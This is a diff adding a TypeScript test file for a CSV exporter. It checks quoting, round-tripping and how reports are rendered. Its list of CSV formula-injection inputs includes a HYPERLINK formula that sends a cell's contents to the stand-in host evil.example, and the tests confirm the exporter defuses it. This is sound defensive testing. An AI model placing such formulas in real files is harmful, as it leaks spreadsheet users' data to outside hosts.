@@ -1,0 +1,52 @@
+import * as fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { csvBom, csvRow, reportCsv, reportCsvHeader } from '../../../lib/model/csv.ts';
+
+/** Reads one row as RFC 4180 says: what a program makes of the file, not what made it. */
+function readRow(text: string): string[] {
+  const rest = text.replace(/\r\n$/, '');
+  return [...`,${rest}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
+    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
+  );
+}
+
+describe('a row of CSV', () => {
+  test('comes back as it was, whatever stands in it, but for what would run as a formula', () => {
+    const harmless = fc.string({ unit: 'grapheme' }).filter((text) => !/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(text));
+    fc.assert(
+      fc.property(fc.array(harmless, { minLength: 1 }), (values) => {
+        expect(readRow(csvRow(values))).toEqual(values);
+      }),
+    );
+  });
+
+  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1+1', '=HYPERLINK("https://evil.example?"&A1,"x")'])(
+    'with %j runs nothing',
+    (text) => expect(readRow(csvRow([text, 'b']))).toEqual([`'${text}`, 'b']),
+  );
+
+  test('leaves numbers as numbers, and what is not there empty', () => {
+    expect(csvRow([-1, 0, null, undefined, true, ''])).toBe('-1,0,,,true,\r\n');
+  });
+
+  test('quotes what a spreadsheet would split or trim', () => {
+    expect(csvRow(['a,b', 'a;b', 'say "x"', 'a\r\nb', ' a'])).toBe('"a,b","a;b","say ""x""","a\r\nb"," a"\r\n');
+  });
+});
+
+test('A report is a row with the names and the values of the interface', () => {
+  const report = {
+    id: '7',
+    url: 'example.com/a,b',
+    result: 'good',
+    score: 90,
+    generatedAt: 0,
+    privacy: 1,
+    hasPassword: false,
+    project: null,
+  } as const;
+  expect(reportCsvHeader).toBe('id,url,result,score,generated_at,privacy,password,project\r\n');
+  expect(reportCsv(report)).toBe('7,"example.com/a,b",good,90,1970-01-01T00:00:00.000Z,1,false,\r\n');
+  expect(reportCsv({ ...report, generatedAt: null, result: null, score: null })).toBe('7,"example.com/a,b",,,,1,false,\r\n');
+  expect(new TextEncoder().encode(csvBom)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
+});
